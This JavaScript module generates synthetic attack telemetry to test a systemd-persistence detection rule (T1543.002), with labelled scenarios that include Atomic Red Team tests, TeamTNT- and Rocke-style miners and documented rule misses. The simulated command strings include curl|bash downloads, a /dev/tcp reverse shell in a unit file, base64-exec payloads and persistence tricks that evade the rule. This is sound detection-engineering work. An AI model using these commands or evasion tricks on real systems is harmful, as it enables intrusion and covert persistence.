// Attacker activity. Each file event that matters is labelled; `mark(..., 'malicious', ...)` on a row the
// rule cannot see (init.d, .timer, rename) makes it a false negative by design.
import { login, run, systemctl } from './actions.mjs';
import { mark, ms } from './model.mjs';
import { ART_TEST1_LINES, unit } from './units.mjs';

const SYSTEMD_RULE = 'TechniqueID=T1543.002,TechniqueName=Create or Modify Sys';

/** Atomic Red Team T1543.002 test 1 (shared/telemetry-formats.md §6), run by Invoke-AtomicTest as root. */
export function artTest1(host, at) {
  const scenario = 'art-t1543.002-1';
  const unitPath = '/etc/systemd/system/art-systemd-service.service';
  const shell = login(host, at, { user: 'admin', from: '10.20.0.15', root: true });
  const pwsh = run(host, at + ms(30_000), shell, '/opt/microsoft/powershell/7/pwsh', 'pwsh -Command Invoke-AtomicTest T1543.002 -TestNumbers 1', { lifeMs: 60_000 });
  const script = [
    `echo "${ART_TEST1_LINES[0]}" > ${unitPath}`,
    ...ART_TEST1_LINES.slice(1, 3).map((line) => `echo "${line}" >> ${unitPath}`),
    'echo "Type=simple"',
    ...ART_TEST1_LINES.slice(3).map((line) => `echo "${line}" >> ${unitPath}`),
    'systemctl daemon-reload',
    'systemctl enable art-systemd-service.service',
    'systemctl start art-systemd-service.service',
  ].join('\n');
  const t = at + ms(34_000);
  const bash = run(host, t, pwsh, '/usr/bin/bash', `bash -c '${script}'`, { lifeMs: 900 });
  mark(host.file({ at: t + ms(3), proc: bash, action: 'FileCreated', path: unitPath, content: `${ART_TEST1_LINES[0]}\n`, ruleName: SYSTEMD_RULE }), 'malicious', 'persistence-unit-created', scenario);
  // MDE reports appends as FileModified (coalesced); Sysmon logs nothing for `>>`.
  mark(host.file({ at: t + ms(6), proc: bash, action: 'FileModified', path: unitPath, content: `${ART_TEST1_LINES.slice(0, 6).join('\n')}\n` }), 'malicious', 'persistence-unit-modified', scenario);
  mark(host.file({ at: t + ms(11), proc: bash, action: 'FileModified', path: unitPath, content: `${ART_TEST1_LINES.join('\n')}\n` }), 'malicious', 'persistence-unit-modified', scenario);
  mark(systemctl(host, t + ms(20), bash, 'daemon-reload', { lifeMs: 300 }), 'ignore', 'attack-context', scenario);
  mark(systemctl(host, t + ms(340), bash, 'enable art-systemd-service.service', { lifeMs: 200 }), 'malicious', 'persistence-unit-enabled', scenario);
  mark(systemctl(host, t + ms(560), bash, 'start art-systemd-service.service', { lifeMs: 300 }), 'malicious', 'persistence-unit-started', scenario);
  for (const [offset, marker] of [[600, 'execstartpre'], [640, 'execstart'], [690, 'execstartpost']]) {
    const touch = mark(run(host, t + ms(offset), host.systemd, '/usr/bin/touch', `/bin/touch /tmp/art-systemd-${marker}-marker`), 'ignore', 'attack-payload', scenario);
    host.file({ at: t + ms(offset + 2), proc: touch, action: 'FileCreated', path: `/tmp/art-systemd-${marker}-marker`, content: '' });
  }
  host.syslog(t + ms(700), 'systemd[1]', 'Started Atomic Red Team Systemd Service.');
  // Cleanup ten minutes later.
  const c = t + ms(600_000);
  const cleanup = run(host, c, pwsh, '/usr/bin/bash', `bash -c "systemctl stop art-systemd-service.service\nsystemctl disable art-systemd-service.service\nrm -rf ${unitPath}\nsystemctl daemon-reload"`, { lifeMs: 900 });
  mark(systemctl(host, c + ms(5), cleanup, 'stop art-systemd-service.service', { lifeMs: 200 }), 'ignore', 'attack-cleanup', scenario);
  for (const [offset, marker] of [[30, 'execstop'], [60, 'execstoppost']]) {
    const touch = run(host, c + ms(offset), host.systemd, '/usr/bin/touch', `/bin/touch /tmp/art-systemd-${marker}-marker`);
    host.file({ at: c + ms(offset + 2), proc: touch, action: 'FileCreated', path: `/tmp/art-systemd-${marker}-marker`, content: '' });
  }
  systemctl(host, c + ms(250), cleanup, 'disable art-systemd-service.service', { lifeMs: 200 });
  const rm = run(host, c + ms(480), cleanup, '/usr/bin/rm', `rm -rf ${unitPath}`);
  mark(host.file({ at: c + ms(482), proc: rm, action: 'FileDeleted', path: unitPath, content: `${ART_TEST1_LINES.join('\n')}\n`, ruleName: SYSTEMD_RULE }), 'ignore', 'attack-cleanup', scenario);
  systemctl(host, c + ms(500), cleanup, 'daemon-reload', { lifeMs: 300 });
}

/** Atomic Red Team T1543.002 test 3: an LSB init script, not a unit file. A known miss of both detections. */
export function artTest3(host, at) {
  const scenario = 'art-t1543.002-3';
  const script = '/etc/init.d/T1543.002';
  const payload1 = "python3 -c \"import os, base64;exec(base64.b64decode('b3MucG9wZW4oJ2VjaG8gYXRvbWljIHRlc3QgZm9yIENyZWF0aW5nIFN5c3RlbWQgU2VydmljZSBUMTU0My4wMDIgPiAvdG1wL1QxNTQzLjAwMi5zeXN0ZW1kLnNlcnZpY2UuY3JlYXRpb24nKQo='))\"";
  const payload2 = "python3 -c \"import os, base64;exec(base64.b64decode('b3MucG9wZW4oJ2VjaG8gYXRvbWljIHRlc3QgZm9yIENyZWF0aW5nIFN5c3RlbWQgU2VydmljZSBUMTU0My4wMDIgPiAvdG1wL1QxNTQzLjAwMi5zeXN0ZW1kLnNlcnZpY2UubW9kaWZpY2F0aW9uJykK'))\"";
  const body = `#!/bin/bash\n### BEGIN INIT INFO\n# Provides : Atomic Test T1543.002\n# Required-Start: $all\n# Required-Stop : \n# Default-Start: 2 3 4 5\n# Default-Stop: \n# Short Description: Atomic Test for Systemd Service Creation\n### END INIT INFO\n${payload1}\n`;
  const shell = login(host, at, { user: 'admin', from: '10.20.0.15', root: true });
  const bash = run(host, at + ms(20_000), shell, '/usr/bin/bash', `bash -c "cat > ${script} << EOF ..."`, { lifeMs: 2_000 });
  // MDE blames `cat`; Sysmon blames the shell that opened the file for the redirection (§5.3).
  const cat = run(host, at + ms(20_010), bash, '/usr/bin/cat', 'cat');
  mark(host.file({ at: at + ms(20_012), proc: cat, sysmonProc: bash, action: 'FileCreated', path: script, content: body }), 'malicious', 'known-miss-initd-script', scenario);
  run(host, at + ms(20_100), bash, '/usr/bin/chmod', `chmod +x ${script}`);
  run(host, at + ms(20_150), bash, '/usr/sbin/update-rc.d', 'update-rc.d T1543.002 defaults', { lifeMs: 400 });
  mark(systemctl(host, at + ms(20_700), bash, 'enable T1543.002', { lifeMs: 500 }), 'malicious', 'known-miss-no-service-suffix', scenario);
  // daemon-reload by enable: systemd-sysv-generator writes the generated unit outside the rule's folders.
  const generator = run(host, at + ms(20_900), host.systemd, '/usr/lib/systemd/system-generators/systemd-sysv-generator', '/usr/lib/systemd/system-generators/systemd-sysv-generator /run/systemd/generator /run/systemd/generator.early /run/systemd/generator.late');
  mark(host.file({ at: at + ms(20_905), proc: generator, action: 'FileCreated', path: '/run/systemd/generator.late/T1543.002.service', content: `# Automatically generated by systemd-sysv-generator\n\n[Unit]\nSourcePath=${script}\n` }), 'malicious', 'known-miss-generated-unit', scenario);
  mark(systemctl(host, at + ms(21_500), bash, 'start T1543.002', { lifeMs: 600 }), 'malicious', 'known-miss-no-service-suffix', scenario);
  const init = run(host, at + ms(21_600), host.systemd, '/usr/bin/bash', `/bin/bash ${script} start`, { lifeMs: 400 });
  const py1 = mark(run(host, at + ms(21_620), init, '/usr/bin/python3.10', payload1, { lifeMs: 200 }), 'ignore', 'attack-payload', scenario);
  const sh1 = run(host, at + ms(21_700), py1, '/usr/bin/dash', 'sh -c echo atomic test for Creating Systemd Service T1543.002 > /tmp/T1543.002.systemd.service.creation');
  host.file({ at: at + ms(21_702), proc: sh1, action: 'FileCreated', path: '/tmp/T1543.002.systemd.service.creation', content: 'atomic test for Creating Systemd Service T1543.002\n' });
  const sudo = run(host, at + ms(24_990), bash, '/usr/bin/sudo', `sudo tee -a ${script}`, { lifeMs: 120 });
  const tee = run(host, at + ms(25_000), sudo, '/usr/bin/tee', `tee -a ${script}`, { lifeMs: 100 });
  mark(host.file({ at: at + ms(25_010), proc: tee, action: 'FileModified', path: script, content: `${body}${payload2}\n` }), 'malicious', 'known-miss-initd-script', scenario);
  systemctl(host, at + ms(25_200), bash, 'daemon-reload', { lifeMs: 300 });
  mark(systemctl(host, at + ms(25_600), bash, 'restart T1543.002', { lifeMs: 500 }), 'malicious', 'known-miss-no-service-suffix', scenario);
  const init2 = run(host, at + ms(25_700), host.systemd, '/usr/bin/bash', `/bin/bash ${script} start`, { lifeMs: 400 });
  const py2 = run(host, at + ms(25_720), init2, '/usr/bin/python3.10', payload2, { lifeMs: 200 });
  const sh2 = run(host, at + ms(25_800), py2, '/usr/bin/dash', 'sh -c echo atomic test for Creating Systemd Service T1543.002 > /tmp/T1543.002.systemd.service.modification');
  host.file({ at: at + ms(25_802), proc: sh2, action: 'FileCreated', path: '/tmp/T1543.002.systemd.service.modification', content: 'atomic test for Creating Systemd Service T1543.002\n' });
}

/** TeamTNT-style cryptominer: curl|bash dropper, a unit named like a systemd component, enable + start. */
export function teamTnt(host, at) {
  const scenario = 'teamtnt-miner';
  const unitPath = '/etc/systemd/system/systemd-network.service';
  const shell = login(host, at, { user: 'ubuntu', from: '203.0.113.108', root: true });
  const bash = run(host, at + ms(12_000), shell, '/usr/bin/bash', 'bash -c "curl -sLk http://203.0.113.35/sh/init.sh | bash"', { lifeMs: 30_000 });
  const curl = run(host, at + ms(12_010), bash, '/usr/bin/curl', 'curl -sLk http://203.0.113.35/sh/init.sh', { lifeMs: 800 });
  host.connect({ at: at + ms(12_030), proc: curl, sourceIp: '10.20.1.12', sourcePort: 41822, destinationIp: '203.0.113.35', destinationPort: 80 });
  const sh = run(host, at + ms(12_015), bash, '/usr/bin/bash', 'bash', { lifeMs: 25_000 });
  run(host, at + ms(13_000), sh, '/usr/bin/mkdir', 'mkdir -p /usr/local/lib/.systemd-network');
  const get = run(host, at + ms(13_100), sh, '/usr/bin/curl', 'curl -sLk -o /usr/local/lib/.systemd-network/bioset http://203.0.113.35/bin/xmrig', { lifeMs: 3_000 });
  host.connect({ at: at + ms(13_120), proc: get, sourceIp: '10.20.1.12', sourcePort: 41830, destinationIp: '203.0.113.35', destinationPort: 80 });
  mark(host.file({ at: at + ms(13_200), proc: get, action: 'FileCreated', path: '/usr/local/lib/.systemd-network/bioset', size: 2_431_288 }), 'ignore', 'attack-payload', scenario);
  run(host, at + ms(16_300), sh, '/usr/bin/chmod', 'chmod +x /usr/local/lib/.systemd-network/bioset');
  const content = unit({ description: 'systemd network service', execStart: '/usr/local/lib/.systemd-network/bioset -c /usr/local/lib/.systemd-network/config.json' });
  mark(host.file({ at: at + ms(16_400), proc: sh, action: 'FileCreated', path: unitPath, content, ruleName: SYSTEMD_RULE }), 'malicious', 'persistence-unit-created', scenario);
  systemctl(host, at + ms(16_500), sh, 'daemon-reload', { lifeMs: 300 });
  mark(systemctl(host, at + ms(16_900), sh, 'enable systemd-network.service', { lifeMs: 200 }), 'malicious', 'persistence-unit-enabled', scenario);
  mark(systemctl(host, at + ms(17_200), sh, 'start systemd-network.service', { lifeMs: 200 }), 'malicious', 'persistence-unit-started', scenario);
  const miner = mark(host.spawn({ at: at + ms(17_300), parent: host.systemd, image: '/usr/local/lib/.systemd-network/bioset', cmd: '/usr/local/lib/.systemd-network/bioset -c /usr/local/lib/.systemd-network/config.json' }), 'ignore', 'attack-payload', scenario);
  host.connect({ at: at + ms(18_000), proc: miner, sourceIp: '10.20.1.12', sourcePort: 51004, destinationIp: '192.0.2.17', destinationPort: 3333 });
  host.syslog(at + ms(17_310), 'systemd[1]', 'Started systemd network service.');
}

/** Rocke-style: a Go implant dropped by a cron pastebin download writes and enables a fake kthreadd unit. */
export function rocke(host, at) {
  const scenario = 'rocke-implant';
  const unitPath = '/etc/systemd/system/kthreadd.service';
  const cronSh = run(host, at, host.cron, '/usr/bin/bash', '/bin/sh -c "curl -fsSL https://pastebin.com/raw/tRxfvbYN|sh"', { lifeMs: 20_000 });
  const curl = run(host, at + ms(10), cronSh, '/usr/bin/curl', 'curl -fsSL https://pastebin.com/raw/tRxfvbYN', { lifeMs: 700 });
  host.connect({ at: at + ms(40), proc: curl, sourceIp: '10.20.2.21', sourcePort: 38812, destinationIp: '192.0.2.143', destinationPort: 443 });
  const sh = run(host, at + ms(15), cronSh, '/usr/bin/bash', 'sh', { lifeMs: 15_000 });
  const wget = run(host, at + ms(900), sh, '/usr/bin/wget', 'wget -q -O /var/tmp/.sysupdate/kworkerds http://198.51.100.77/kworkerds', { lifeMs: 2_000 });
  mark(host.file({ at: at + ms(950), proc: wget, action: 'FileCreated', path: '/var/tmp/.sysupdate/kworkerds', size: 4_120_576 }), 'ignore', 'attack-payload', scenario);
  const implant = mark(host.spawn({ at: at + ms(3_200), parent: sh, image: '/var/tmp/.sysupdate/kworkerds', cmd: '/var/tmp/.sysupdate/kworkerds' }), 'ignore', 'attack-payload', scenario);
  const content = unit({ description: 'kernel thread daemon', execStart: '/var/tmp/.sysupdate/kworkerds', after: 'network-online.target' });
  mark(host.file({ at: at + ms(3_500), proc: implant, action: 'FileCreated', path: unitPath, content, ruleName: SYSTEMD_RULE }), 'malicious', 'persistence-unit-created', scenario);
  mark(systemctl(host, at + ms(3_700), implant, 'enable kthreadd.service', { lifeMs: 200 }), 'malicious', 'persistence-unit-enabled', scenario);
  mark(systemctl(host, at + ms(3_950), implant, 'start kthreadd.service', { lifeMs: 200 }), 'malicious', 'persistence-unit-started', scenario);
}

/** A user-level unit under ~/.config/systemd/user/ with a reverse shell, enabled with lingering. */
export function userLevel(host, at) {
  const scenario = 'user-level-unit';
  const unitPath = '/home/ubuntu/.config/systemd/user/dbus-session.service';
  const shell = login(host, at, { user: 'ubuntu', from: '198.51.100.18' });
  const content = unit({ description: 'D-Bus User Session', execStart: "/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.18/4444 0>&1'", after: 'default.target', wantedBy: 'default.target' });
  run(host, at + ms(5_000), shell, '/usr/bin/mkdir', 'mkdir -p /home/ubuntu/.config/systemd/user', { user: 'ubuntu' });
  mark(host.file({ at: at + ms(6_000), proc: shell, action: 'FileCreated', path: unitPath, content, ruleName: SYSTEMD_RULE }), 'malicious', 'persistence-user-unit-created', scenario);
  systemctl(host, at + ms(8_000), shell, '--user daemon-reload', { user: 'ubuntu', lifeMs: 200 });
  mark(systemctl(host, at + ms(9_000), shell, '--user enable --now dbus-session.service', { user: 'ubuntu', lifeMs: 300 }), 'malicious', 'persistence-unit-enabled', scenario);
  run(host, at + ms(10_000), shell, '/usr/bin/loginctl', 'loginctl enable-linger ubuntu', { user: 'ubuntu' });
}

/** `.SERVICE` in upper case: systemd ignores the file, but `endswith` is case-insensitive, so the rule fires. */
export function upperCaseSuffix(host, at) {
  const scenario = 'uppercase-suffix';
  const shell = login(host, at, { user: 'deploy', from: '10.20.0.77', root: true });
  const content = unit({ description: 'rsyslog helper', execStart: '/usr/local/bin/.rsyslogd -q' });
  const cp = run(host, at + ms(4_000), shell, '/usr/bin/cp', 'cp /tmp/r /etc/systemd/system/rsyslogd.SERVICE');
  mark(host.file({ at: at + ms(4_005), proc: cp, action: 'FileCreated', path: '/etc/systemd/system/rsyslogd.SERVICE', content, ruleName: SYSTEMD_RULE }), 'malicious', 'persistence-unit-created', scenario);
}

/** A vendor unit edited in place (ExecStartPre added): MDE reports FileModified, Sysmon nothing. */
export function vendorUnitModified(host, at) {
  const scenario = 'vendor-unit-modified';
  const unitPath = '/lib/systemd/system/cron.service';
  const shell = login(host, at, { user: 'admin', from: '203.0.113.45', root: true });
  const code = "import re;p='/lib/systemd/system/cron.service';s=open(p).read();open(p,'r+').write(s.replace('[Service]','[Service]\\nExecStartPre=/bin/sh -c \\'/usr/share/.cache/dbus &\\'',1))";
  const py = run(host, at + ms(7_000), shell, '/usr/bin/python3.10', `python3 -c "${code}"`, { lifeMs: 120 });
  // The only Sysmon trace of the edit is this process; label it so the miss shows up in Sysmon replays.
  mark(py, 'malicious', 'known-miss-sysmon-no-modify', scenario, 'sysmon');
  const content = unit({ description: 'Regular background program processing daemon', execStart: '/usr/sbin/cron -f -P', extra: ["ExecStartPre=/bin/sh -c '/usr/share/.cache/dbus &'"] });
  mark(host.file({ at: at + ms(7_050), proc: py, action: 'FileModified', path: unitPath, content }), 'malicious', 'persistence-unit-modified', scenario);
}

/** Known miss: a unit staged in /tmp and renamed into place. */
export function movedIntoPlace(host, at) {
  const scenario = 'unit-moved-into-place';
  const shell = login(host, at, { user: 'ubuntu', from: '203.0.113.108', root: true });
  const content = unit({ description: 'Docker Application Container Engine Update', execStart: '/usr/bin/docker-update --daemon' });
  const curl = run(host, at + ms(3_000), shell, '/usr/bin/curl', 'curl -s -o /tmp/.x/docker-update.service http://203.0.113.35/u/docker-update.service', { lifeMs: 600 });
  mark(host.file({ at: at + ms(3_100), proc: curl, action: 'FileCreated', path: '/tmp/.x/docker-update.service', content }), 'malicious', 'known-miss-staged-outside', scenario);
  const mv = run(host, at + ms(5_000), shell, '/usr/bin/mv', 'mv /tmp/.x/docker-update.service /etc/systemd/system/');
  mark(host.file({ at: at + ms(5_002), proc: mv, action: 'FileRenamed', path: '/etc/systemd/system/docker-update.service', previousPath: '/tmp/.x/docker-update.service', content }), 'malicious', 'known-miss-renamed-into-place', scenario);
  mark(systemctl(host, at + ms(6_000), shell, 'enable docker-update.service', { lifeMs: 200 }), 'malicious', 'persistence-unit-enabled', scenario);
}

/** Known misses: a .timer unit (its .service sits in /usr/local/lib/..., which still matches) and systemd-run. */
export function timerUnit(host, at) {
  const scenario = 'timer-unit';
  const shell = login(host, at, { user: 'deploy', from: '10.20.0.77', root: true });
  const service = '[Unit]\nDescription=sysstat collector\n\n[Service]\nType=oneshot\nExecStart=/bin/bash -c "curl -s http://198.51.100.77/s.sh | bash"\n';
  const timer = '[Unit]\nDescription=sysstat collector timer\n\n[Timer]\nOnCalendar=*:0/15\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n';
  // /usr/local/lib/systemd/system/ is not in the path list, but it contains the needle
  // "/lib/systemd/system/" and has_any needles that begin and end with `/` act like contains: a hit.
  const tee1 = run(host, at + ms(4_000), shell, '/usr/bin/tee', 'tee /usr/local/lib/systemd/system/sysstat-collect.service');
  mark(host.file({ at: at + ms(4_010), proc: tee1, action: 'FileCreated', path: '/usr/local/lib/systemd/system/sysstat-collect.service', content: service }), 'malicious', 'persistence-unit-created', scenario);
  const tee2 = run(host, at + ms(6_000), shell, '/usr/bin/tee', 'tee /etc/systemd/system/sysstat-collect.timer');
  mark(host.file({ at: at + ms(6_010), proc: tee2, action: 'FileCreated', path: '/etc/systemd/system/sysstat-collect.timer', content: timer, ruleName: SYSTEMD_RULE }), 'malicious', 'known-miss-timer-unit', scenario);
  mark(systemctl(host, at + ms(8_000), shell, 'enable --now sysstat-collect.timer', { lifeMs: 300 }), 'malicious', 'known-miss-timer-unit', scenario);
  // A second foothold without any file in a unit folder: systemd-run writes a transient timer + service.
  const runner = mark(run(host, at + ms(60_000), shell, '/usr/bin/systemd-run', "systemd-run --on-calendar=*:0/30 --unit=dbus-broker-helper /bin/bash -c 'curl -s http://198.51.100.77/s.sh | bash'", { lifeMs: 200 }), 'malicious', 'known-miss-transient-unit', scenario);
  for (const [i, suffix] of ['timer', 'service'].entries()) {
    mark(host.file({ at: at + ms(60_050 + i * 3), proc: host.systemd, action: 'FileCreated', path: `/run/systemd/transient/dbus-broker-helper.${suffix}`, content: `# This is a transient unit file, created programmatically via the systemd API.\n`, ruleName: SYSTEMD_RULE }), 'malicious', 'known-miss-transient-unit', scenario);
  }
  return runner;
}
